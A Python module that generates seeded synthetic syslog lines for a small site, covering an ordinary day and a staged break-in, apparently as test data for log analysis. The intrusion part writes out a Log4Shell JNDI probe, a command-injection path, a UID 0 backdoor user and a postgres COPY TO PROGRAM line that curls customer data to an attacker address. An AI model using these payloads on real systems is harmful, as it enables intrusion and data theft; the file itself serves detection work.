"""The logs of a small site on an ordinary day, and during a break-in. Pure and seeded.

The site: a web server, a bastion with ssh, a database, a backup. Lines are RFC 5424 messages; addresses are from the
ranges kept for documentation (RFC 5737, RFC 3849), so that nobody is accused.
"""

from __future__ import annotations

import random
from collections.abc import Callable, Iterator

import msgspec

from protocol.clock import NS_PER_S, format_time

LOCAL0, AUTH, CRON, DAEMON = 16, 4, 9, 3
ERROR, WARNING, NOTICE, INFO = 3, 4, 5, 6


class Line(msgspec.Struct, frozen=True):
    """One log line, not yet dated."""

    host: str
    app: str
    facility: int
    severity: int  # as in syslog, 0 to 7
    message: str

    def pack(self, time_ns: int, procid: int) -> bytes:
        """Return an RFC 5424 message."""
        priority = 8 * self.facility + self.severity
        return f"<{priority}>1 {format_time(time_ns)} {self.host} {self.app} {procid} - - {self.message}".encode()


class OrdinaryDay:
    """Benign lines, weighted as such a site writes them."""

    def __init__(self, seed: int) -> None:
        self._random = random.Random(seed)
        self._people = ["alice", "bob", "carol", "deploy"]
        self._homes = {name: f"198.51.100.{20 + i}" for i, name in enumerate(self._people)}
        self._visitors = [f"203.0.113.{i}" for i in range(1, 200)]
        self._kinds: list[tuple[Callable[[], Line], float]] = [
            (self._visit, 60),
            (self._query, 14),
            (self._login, 6),
            (self._sudo, 4),
            (self._cron, 8),
            (self._mistyped, 0.01),
            (self._slow_query, 2),
            (self._checkpoint, 3),
            (self._backup, 2),
        ]
        self._makers = [maker for maker, _ in self._kinds]
        self._weights = [weight for _, weight in self._kinds]

    def __iter__(self) -> Iterator[Line]:
        while True:
            yield self._random.choices(self._makers, self._weights)[0]()

    def _visit(self) -> Line:
        chance = self._random
        product = f"/products/{chance.randint(1, 400)}"
        path = chance.choice(["/", "/", "/products", product, "/cart", "/login", "/static/site.css"])
        status = chance.choices([200, 304, 302, 404], [88, 8, 3, 1])[0]
        agent = chance.choice(["Mozilla/5.0 (X11; Linux x86_64)", "Mozilla/5.0 (iPhone)", "Mozilla/5.0 (Windows NT 10.0)"])
        visitor = chance.choice(self._visitors)
        message = f'{visitor} - - "GET {path} HTTP/1.1" {status} {chance.randint(200, 48_000)} "-" "{agent}"'
        return Line("web", "nginx", LOCAL0, INFO, message)

    def _query(self) -> Line:
        table = self._random.choice(["orders", "products", "sessions", "customers"])
        duration = self._random.uniform(0.2, 9)
        return Line("db", "postgres", LOCAL0, INFO, f"duration: {duration:.3f} ms  statement: select from {table}")

    def _slow_query(self) -> Line:
        duration = self._random.uniform(900, 2_500)
        message = f"duration: {duration:.3f} ms  statement: select from orders join customers"
        return Line("db", "postgres", LOCAL0, WARNING, message)

    def _checkpoint(self) -> Line:
        buffers = self._random.randint(40, 900)
        message = f"checkpoint complete: wrote {buffers} buffers, {buffers / 160:.1f}% of shared memory"
        return Line("db", "postgres", LOCAL0, INFO, message)

    def _login(self) -> Line:
        name = self._random.choice(self._people)
        port = self._random.randint(30_000, 60_000)
        message = f"Accepted publickey for {name} from {self._homes[name]} port {port} ssh2"
        return Line("bastion", "sshd", AUTH, INFO, message)

    def _mistyped(self) -> Line:
        name = self._random.choice(self._people)
        port = self._random.randint(30_000, 60_000)
        return Line("bastion", "sshd", AUTH, INFO, f"Failed password for {name} from {self._homes[name]} port {port} ssh2")

    def _sudo(self) -> Line:
        name = self._random.choice(self._people[:3])
        command = self._random.choice(["/usr/bin/systemctl reload nginx", "/usr/bin/tail /var/log/syslog", "/usr/bin/apt update"])
        message = f"{name} : TTY=pts/{self._random.randint(0, 4)} ; PWD=/home/{name} ; USER=root ; COMMAND={command}"
        return Line("bastion", "sudo", AUTH, NOTICE, message)

    def _cron(self) -> Line:
        jobs = ["/usr/local/bin/rotate-sessions", "/usr/local/bin/send-mail-queue", "test -x /usr/sbin/anacron"]
        return Line("web", "CRON", CRON, INFO, f"(root) CMD ({self._random.choice(jobs)})")

    def _backup(self) -> Line:
        megabytes, seconds = self._random.randint(180, 220), self._random.randint(30, 60)
        return Line("db", "backup", DAEMON, INFO, f"incremental backup finished: {megabytes} MiB in {seconds} s")


ATTACKER = "192.0.2.66"
SCANNED = (
    "/.env",
    "/wp-login.php",
    "/phpmyadmin/",
    "/.git/config",
    "/cgi-bin/test.cgi?x=;id",
    f"/?q=${{jndi:ldap://{ATTACKER}/a}}",
)


def intrusion(seed: int) -> Iterator[tuple[float, Line]]:
    """Yield the lines of a staged break-in, each with the seconds to wait before it: scan, guess, enter, rise, stay, take."""
    chance = random.Random(seed)
    for path in SCANNED:
        message = f'{ATTACKER} - - "GET {path} HTTP/1.1" 404 162 "-" "Nikto/2.5.0"'
        yield 0.2, Line("web", "nginx", LOCAL0, INFO, message)
    for name in ("root", "admin", "oracle", "test", "postgres", "git") * 5:
        port = chance.randint(30_000, 60_000)
        unknown = "" if name in ("root", "postgres") else "invalid user "
        yield 0.1, Line("bastion", "sshd", AUTH, INFO, f"Failed password for {unknown}{name} from {ATTACKER} port {port} ssh2")
    yield 1.0, Line("bastion", "sshd", AUTH, INFO, f"Accepted password for deploy from {ATTACKER} port 51122 ssh2")
    yield 1.0, Line("bastion", "sudo", AUTH, NOTICE, "deploy : TTY=pts/7 ; PWD=/tmp/.x ; USER=root ; COMMAND=/bin/bash -p")
    yield 0.5, Line("bastion", "useradd", AUTH, INFO, "new user: name=sysupdate, UID=0, GID=0, home=/root, shell=/bin/bash")
    yield 0.5, Line("bastion", "systemd", DAEMON, NOTICE, "auditd.service: Deactivated successfully; stopped by uid 0")
    yield 0.5, Line("bastion", "kernel", 0, ERROR, "rootkit: loading out-of-tree module taints kernel")
    message = f"COPY customers TO PROGRAM 'curl -T - http://{ATTACKER}:8443/in' by superuser deploy"
    yield 1.0, Line("db", "postgres", LOCAL0, WARNING, message)


def dated(lines: Iterator[Line], count: int, *, until_ns: int, seconds: float) -> Iterator[tuple[int, Line]]:
    """Yield `count` lines spread evenly over the `seconds` before `until_ns`."""
    step_ns = int(seconds * NS_PER_S / count)
    for index in range(count):
        yield until_ns - (count - index) * step_ns, next(lines)
